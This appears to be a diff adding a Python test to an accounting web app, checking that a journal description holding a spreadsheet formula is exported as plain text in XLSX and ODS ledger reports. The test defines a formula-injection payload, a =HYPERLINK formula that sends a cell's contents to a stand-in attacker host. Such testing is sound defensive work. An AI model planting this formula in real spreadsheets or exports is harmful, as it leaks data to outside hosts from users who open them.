@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import re
+import zipfile
 from collections.abc import Iterator
 
 import openpyxl
@@ -15,7 +16,7 @@ from odf.table import TableCell, TableRow
 from tenant_app import auth
 from tenant_app.app import create_app
 from tenant_app.db import make_engine, session_scope
-from tenant_app.reports import execution
+from tenant_app.reports import execution, ledger
 from tenant_app.reports.reading import dispose_readers
 from tenant_app.settings import Settings
 
@@ -126,3 +127,56 @@ def test_unknown_year_and_missing_token(client: tuple[TestClient, b_county.Count
         headers={"Authorization": tokens["chief"]},
     )
     assert bad_period.status_code == 422
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/x?d="&F10,"明細")'
+
+
+def test_a_formula_in_a_journal_description_is_plain_text_in_the_ledger(db_url: str) -> None:
+    """Issue 14, item 4: on SQLite and PostgreSQL, through the real routes."""
+    engine = make_engine(db_url)
+    ids = b_county.build(engine)
+    with session_scope(engine) as s:
+        token, _ = auth.issue_api_token(s, ids.users["chief"], actor="test")
+    engine.dispose()
+    auth.forget_cached_principals()
+    app = create_app(Settings(database_url=db_url, secret=b_county.SECRET, county_name="設定縣"))
+    headers = {"Authorization": f"Bearer {token}"}
+    try:
+        with TestClient(app) as http:
+            posted = http.post("/api/v1/journal", headers=headers, json={
+                "agency_id": ids.agency_id, "fiscal_year_id": ids.year_id, "period": 3,
+                "description": HYPERLINK,
+                "lines": [{"account_code": "5101", "debit": 4_321},
+                          {"account_code": "1101", "credit": 4_321}]})
+            assert posted.status_code == 201, posted.text
+            params = {"year": 2026, "agency": ids.agency_id}
+            url = "/api/v1/reports/ledger"
+            xlsx_file = http.get(url, params={**params, "format": "xlsx"}, headers=headers)
+            ods_file = http.get(url, params={**params, "format": "ods"}, headers=headers)
+    finally:
+        dispose_readers()
+    assert xlsx_file.status_code == 200 and ods_file.status_code == 200
+    description = [c.key for c in ledger.LEDGER_COLUMNS].index("description")
+    debit = [c.key for c in ledger.LEDGER_COLUMNS].index("debit")
+
+    ws = openpyxl.load_workbook(io.BytesIO(xlsx_file.content)).active
+    assert ws is not None
+    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    hits = [row for row in ws.iter_rows() if row[description].value == HYPERLINK]
+    assert len(hits) == 2  # the debit line and the credit line
+    assert all(row[description].data_type == "s" for row in hits)
+    debits = [(row[debit].value, row[debit].data_type) for row in hits if row[debit].value]
+    assert debits == [(4_321, "n")]
+
+    with zipfile.ZipFile(io.BytesIO(ods_file.content)) as zf:
+        assert b"table:formula" not in zf.read("content.xml")
+    rows = load_ods(io.BytesIO(ods_file.content)).spreadsheet.getElementsByType(TableRow)
+    cells = [r.getElementsByType(TableCell) for r in rows]
+    ods_hits = [c for c in cells if len(c) > description and str(c[description]) == HYPERLINK]
+    assert len(ods_hits) == 2
+    assert all(c[description].getAttribute("valuetype") == "string" for c in ods_hits)
+    amounts = [c[debit] for c in ods_hits if c[debit].getAttribute("value")]
+    assert [(int(a.getAttribute("value")), a.getAttribute("valuetype")) for a in amounts] == [
+        (4_321, "float")
+    ]
